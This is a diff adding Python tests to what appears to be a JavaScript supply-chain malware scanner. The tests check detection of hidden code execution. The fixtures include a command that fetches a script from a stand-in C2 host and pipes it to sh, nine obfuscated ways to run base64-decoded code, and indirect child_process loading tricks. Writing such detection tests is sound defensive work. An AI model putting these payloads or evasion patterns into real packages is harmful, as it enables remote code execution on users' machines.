@@ -116,3 +116,66 @@ def test_polyfills_and_provider_users_are_not_hooks(source: str) -> None:
     level, rules = _verdict({"index.js": source})
     assert not rules & {"CW-BROWSER-FETCH-HOOK", "CW-BROWSER-XHR-HOOK", "CW-BROWSER-WALLET-HOOK"}
     assert level is Level.BENIGN
+
+
+# 3. folding must not remove the evidence ----------------------------------------------------
+
+def _b64(text: str) -> str:
+    import base64
+    return base64.b64encode(text.encode()).decode()
+
+
+CODE = "require(\"child_process\").exec(\"curl -s https://c2.example.invalid/x | sh\")"
+RUNNERS = {
+    "global-eval": "global['ev'+'al'](atob('{p}'));",
+    "globalThis-eval": "globalThis['ev'+'al'](atob('{p}'));",
+    "window-eval": "window['eval'](atob('{p}'));",
+    "comma-eval": "(0, eval)(atob('{p}'));",
+    "call-call": "Function.prototype.call.call(eval, null, atob('{p}'));",
+    "new-function": "new Function(atob('{p}'))();",
+    "set-timeout": "setTimeout(atob('{p}'), 0);",
+    "vm": "require('vm').runInThisContext(Buffer.from('{p}', 'base64').toString());",
+    "var-key": "var k = 'ev' + 'al'; var g = globalThis; g[k](atob('{p}'));",
+}
+
+
+@pytest.mark.parametrize("name", sorted(RUNNERS))
+def test_running_decoded_code_is_reported_on_the_normalised_view(name: str) -> None:
+    level, rules = _verdict({"index.js": RUNNERS[name].format(p=_b64(CODE)) + "\n"})
+    assert "CW-EVAL-DECODED-CODE" in rules
+    assert level is Level.MALICIOUS
+
+
+def test_decoding_harmless_constants_is_not_running_hidden_code() -> None:
+    # a bundler's helper that decodes a banner and a feature test `new Function('return this')`
+    source = ("var banner = atob('" + _b64("built with love (c) 2024") + "');\n"
+              "var g = new Function(atob('" + _b64("return this") + "'))();\n"
+              "console.log(banner);\n")
+    level, rules = _verdict({"index.js": source})
+    assert "CW-EVAL-DECODED-CODE" not in rules
+    assert level is Level.BENIGN
+
+
+def test_the_normalised_view_marks_what_it_decoded() -> None:
+    from chainwatch.analysis.normalize import normalize
+    view = normalize(("eval(atob('" + _b64(CODE) + "'));\n").encode()).text
+    assert b"/*decoded*/" in view and b"child_process" in view
+    plain = normalize(b"var m = require('child' + '_process');\n").text
+    assert b"/*decoded*/" not in plain and b'"child_process"' in plain
+
+
+@pytest.mark.parametrize("source", [
+    "module.constructor._load('child_process').exec('id');",
+    "var F = []['constr' + 'uctor']['constr' + 'uctor']; F('return 1')();",
+    "var a = 'child', b = 'process'; import(`node:${a}_${b}`).then((m) => m.execSync('id'));",
+    "var o = { k: 'child_process' }; require(o.k).exec('id');",
+])
+def test_indirect_module_and_code_loading_is_a_medium_signal(source: str) -> None:
+    _, rules = _verdict({"index.js": source + "\n"})
+    assert "CW-EVAL-DYNAMIC-LOAD" in rules
+
+
+def test_plain_loading_is_no_indirect_loading() -> None:
+    _, rules = _verdict({"index.js": "const fs = require('fs');\n"
+                         "module.exports = async () => (await import('./lib/plugin.js')).default;\n"})
+    assert "CW-EVAL-DYNAMIC-LOAD" not in rules
